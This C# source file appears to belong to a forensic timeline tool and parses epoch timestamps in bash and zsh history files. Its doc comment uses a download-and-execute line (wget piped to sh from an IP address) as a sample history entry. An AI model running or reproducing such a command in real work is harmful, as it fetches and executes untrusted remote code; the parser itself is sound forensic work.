using System.Globalization;
using System.Text.RegularExpressions;

namespace Timeline.Parsers.Linux.BashHistory;

/// <summary>
/// Timestamps inside history files. Bash with <c>HISTTIMEFORMAT</c> set writes a comment line with
/// the Unix epoch before each entry: <code>#1709349302</code>
/// zsh with <c>EXTENDED_HISTORY</c> prefixes the entry with start epoch and elapsed seconds:
/// <code>: 1709349302:0;wget -q -O - http://203.0.113.7/d.sh | sh</code>
/// Epochs of 9 to 11 digits are accepted (years 1973 to 5138); anything else is not a stamp.
/// </summary>
public static partial class HistoryStamp
{
    /// <summary>True for a bash <c>#&lt;epoch&gt;</c> line; <paramref name="ticks"/> is the UTC instant.</summary>
    public static bool TryReadBash(string line, out long ticks)
    {
        ticks = 0;
        var m = BashStamp().Match(line);
        return m.Success && TryEpoch(m.Groups["epoch"].Value, out ticks);
    }

    /// <summary>True for a zsh extended-history line; gives the instant, elapsed seconds and command.</summary>
    public static bool TryReadZsh(string line, out long ticks, out string elapsed, out string command)
    {
        ticks = 0;
        elapsed = command = "";
        var m = ZshEntry().Match(line);
        if (!m.Success || !TryEpoch(m.Groups["epoch"].Value, out ticks)) return false;
        elapsed = m.Groups["elapsed"].Value;
        command = m.Groups["command"].Value;
        return true;
    }

    private static bool TryEpoch(string digits, out long ticks)
    {
        ticks = 0;
        if (!long.TryParse(digits, NumberStyles.None, CultureInfo.InvariantCulture, out var seconds)) return false;
        ticks = DateTimeOffset.FromUnixTimeSeconds(seconds).UtcTicks;
        return true;
    }

    [GeneratedRegex(@"^#(?<epoch>[0-9]{9,11})[ \t]*$", RegexOptions.CultureInvariant)]
    private static partial Regex BashStamp();

    [GeneratedRegex(@"^: *(?<epoch>[0-9]{9,11}):(?<elapsed>[0-9]+);(?<command>.*)$", RegexOptions.CultureInvariant | RegexOptions.Singleline)]
    private static partial Regex ZshEntry();
}
